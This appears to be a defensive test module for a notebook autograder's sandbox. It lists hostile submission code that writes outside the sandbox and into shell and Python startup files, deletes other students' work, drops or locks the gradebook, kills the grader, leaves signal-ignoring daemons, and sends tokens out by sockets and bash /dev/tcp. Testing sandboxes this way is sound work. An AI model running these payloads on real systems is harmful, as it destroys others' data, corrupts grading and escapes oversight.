"""Writing outside, living on after the end, and the network."""

import os
from pathlib import Path

import nbformat

from tests.hostile.attack import (
    HONEST,
    QUESTION,
    Attack,
    Graded,
    Scene,
    fill_in,
    honest_work_suffers,
    released,
    with_code,
)
from tests.released import ASSIGNMENT, find

_WRITE = {
    "the_home": ("@HOME@/.profile", 'open("@HOME@/.profile", "a").write("@TOKEN@!")'),
    "a_startup_file": (
        "@HOME@/.ipython/profile_default/startup/first.py",
        """
import os; os.makedirs("@HOME@/.ipython/profile_default/startup", exist_ok=True)
open("@HOME@/.ipython/profile_default/startup/first.py", "w").write("# @TOKEN@!")""",
    ),
    "the_package_path": (
        "@HOME@/.local/lib/python3.11/site-packages/first.pth",
        """
import os; os.makedirs("@HOME@/.local/lib/python3.11/site-packages", exist_ok=True)
open("@HOME@/.local/lib/python3.11/site-packages/first.pth", "w").write("# @TOKEN@!")""",
    ),
    "a_folder_of_the_graders": ("@OUTSIDE@/file", 'open("@OUTSIDE@/file", "w").write("@TOKEN@!")'),
    "a_shell_command": ("@OUTSIDE@/shell", 'get_ipython().system("echo @TOKEN@\\! > @OUTSIDE@/shell")'),
    "others_work": (
        "@CLASS@/submitted/@HONEST@/@ASSIGNMENT@/@ASSIGNMENT@.ipynb",
        'open("@CLASS@/submitted/@HONEST@/@ASSIGNMENT@/@ASSIGNMENT@.ipynb", "a").write("@TOKEN@!")',
    ),
    "others_marked_work": (
        "@CLASS@/autograded/@HONEST@/@ASSIGNMENT@/note.txt",
        """
import os; os.makedirs("@CLASS@/autograded/@HONEST@/@ASSIGNMENT@", exist_ok=True)
open("@CLASS@/autograded/@HONEST@/@ASSIGNMENT@/note.txt", "w").write("@TOKEN@!")""",
    ),
    "the_reference": (
        "@PROJECT@/solutions/momentum.py",
        'open("@PROJECT@/solutions/momentum.py", "a").write("\\n# @TOKEN@!")',
    ),
    "the_questions": (
        "@PROJECT@/grading/hidden_test.py",
        'open("@PROJECT@/grading/hidden_test.py", "a").write("\\n# @TOKEN@!")',
    ),
    "the_settings": (
        "@PROJECT@/nbgrader_config.py",
        'open("@PROJECT@/nbgrader_config.py", "a").write("\\n# @TOKEN@!")',
    ),
    "the_assignment": (
        "@PROJECT@/assignments/@ASSIGNMENT@/first.py",
        'open("@PROJECT@/assignments/@ASSIGNMENT@/first.py", "w").write("@TOKEN@!")',
    ),
    "shared_memory": ("/dev/shm/@TOKEN@", 'open("/dev/shm/@TOKEN@", "w").write("@TOKEN@!")'),
    "a_note_for_the_next": ("/tmp/@TOKEN@", 'open("/tmp/@TOKEN@", "w").write("@TOKEN@!")'),
    "through_a_link_that_the_grader_follows": (
        "@OUTSIDE@/followed",
        """
import glob, os
os.symlink("@OUTSIDE@/followed", "link"); open("link", "w").write("@TOKEN@!")""",
    ),
    "a_link_in_place_of_its_marked_copy": (
        "@OUTSIDE@/overwritten",
        """
import os
open("@OUTSIDE@/overwritten", "w").write("mine")
os.remove("@ASSIGNMENT@.ipynb"); os.symlink("@OUTSIDE@/overwritten", "@ASSIGNMENT@.ipynb")
print("@TOKEN@!")""",
    ),
}


def _holds_its_mark(path: str):
    def check(scene: Scene, graded: Graded) -> bool:
        file = Path(fill_in(path, scene))
        return file.exists() and f"{scene.token}!" in file.read_text(errors="replace")

    return check


def _is_gone(scene: Scene, graded: Graded) -> bool:
    return not (scene.project / "_class" / "submitted" / HONEST / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").exists()


def _hard_link(folder: Path, scene: Scene) -> None:
    """Hand in a second name of somebody else's file: whatever the grader writes through it, it writes there."""
    notebook = released()
    find(notebook, QUESTION).source = f'print("{scene.token}" "!")'
    (scene.outside / "linked").write_text(nbformat.writes(notebook))
    os.link(scene.outside / "linked", folder / f"{ASSIGNMENT}.ipynb")


_BREAK = {
    "deletes_others_work": (
        _is_gone,
        'import shutil; shutil.rmtree("@CLASS@/submitted/@HONEST@", ignore_errors=True)',
    ),
    "empties_the_gradebook": (
        honest_work_suffers,
        """
import sqlite3
with sqlite3.connect("@CLASS@/gradebook.db") as book:
    for (name,) in book.execute("select name from sqlite_master where type = 'table'").fetchall():
        book.execute(f'drop table "{name}"')""",
    ),
    "replaces_the_gradebook": (honest_work_suffers, 'open("@CLASS@/gradebook.db", "w").write("nothing")'),
    "stops_the_grader": (
        honest_work_suffers,
        "import os, signal; os.kill(os.getppid(), signal.SIGKILL)",
    ),
    "locks_the_gradebook": (
        honest_work_suffers,
        """
import subprocess, sys
subprocess.Popen([sys.executable, "-c", '''
import sqlite3, time
book = sqlite3.connect("@CLASS@/gradebook.db", timeout=30); book.isolation_level = None
book.execute("begin exclusive"); time.sleep(40)  # @TOKEN@
'''], start_new_session=True); import time; time.sleep(1)""",
    ),
}

# Each ends by itself, whatever becomes of the grading.
_LIVE_ON = {
    "a_process": """
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(200)", "@TOKEN@-@ME@"])""",
    "a_process_of_its_own_session": """
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(200)", "@TOKEN@-@ME@"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)""",
    "a_daemon_that_ignores_signals": """
import os, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        code = "import signal, time; [signal.signal(s, signal.SIG_IGN) for s in (1, 2, 3, 15)]; time.sleep(200)"
        os.execv(sys.executable, [sys.executable, "-c", code, "@TOKEN@-@ME@"])
    os._exit(0)""",
    "a_shell_in_the_background": 'get_ipython().system("(exec -a @TOKEN@-@ME@ sleep 200) >/dev/null 2>&1 &")',
    "a_process_started_within_the_tests": """
def @QUESTION@(*args, **kwargs):
    import subprocess, sys
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(200)", "@TOKEN@-@ME@"], start_new_session=True)""",
    "a_process_started_at_the_end": """
import atexit, subprocess, sys
code = "import time; time.sleep(200)"
atexit.register(subprocess.Popen, [sys.executable, "-c", code, "@TOKEN@-@ME@"], start_new_session=True)""",
}


def _lives(scene: Scene, graded: Graded) -> bool:
    return any(f"{scene.token}-{scene.me}" in line for line in scene.processes())


_SEND = {
    "tcp": 'import socket; socket.create_connection(("127.0.0.1", @PORT@), 2).sendall(b"@TOKEN@-@ME@")',
    "udp": """
import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"@TOKEN@-@ME@", ("127.0.0.1", @PORT@))""",
    "http": """
import urllib.request
try: urllib.request.urlopen("http://127.0.0.1:@PORT@/@TOKEN@-@ME@", timeout=2)
except Exception: pass""",
    "a_shell": "get_ipython().system(\"bash -c 'echo @TOKEN@-@ME@ > /dev/tcp/127.0.0.1/@PORT@'\")",
    "an_abstract_socket": """
import socket
s = socket.socket(socket.AF_UNIX); s.connect("\\0@TOKEN@"); s.send(b"@TOKEN@-@ME@")""",
    "a_socket_in_a_folder": """
import socket
s = socket.socket(socket.AF_UNIX); s.connect("@OUTSIDE@/socket"); s.send(b"@TOKEN@-@ME@")""",
    "the_tests_call": """
def @QUESTION@(*args, **kwargs):
    import socket; socket.create_connection(("127.0.0.1", @PORT@), 2).sendall(b"@TOKEN@-@ME@")""",
    "another_process": """
import subprocess, sys
subprocess.run([sys.executable, "-c",
    "import socket; socket.create_connection(('127.0.0.1', @PORT@), 2).sendall(b'@TOKEN@-@ME@')"])""",
}


def _is_heard(scene: Scene, graded: Graded) -> bool:
    return any(f"{scene.token}-{scene.me}" in heard for heard in scene.heard)


ATTACKS = [
    Attack(
        "writing",
        "writes_through_a_hard_link",
        "the file that it links to holds its mark",
        _hard_link,
        _holds_its_mark("@OUTSIDE@/linked"),
    ),
    *(
        Attack("writing", f"writes_{name}", f"the file {path} holds its mark", with_code(code), _holds_its_mark(path))
        for name, (path, code) in _WRITE.items()
    ),
    *(
        Attack("writing", name, "others lose their work or marks", with_code(code), check, alone=True)
        for name, (check, code) in _BREAK.items()
    ),
    *(
        Attack("persisting", f"leaves_{name}", "a process runs on after grading", with_code(code), _lives)
        for name, code in _LIVE_ON.items()
    ),
    *(
        Attack("network", f"sends_by_{name}", "somebody outside hears of it", with_code(code), _is_heard)
        for name, code in _SEND.items()
    ),
]
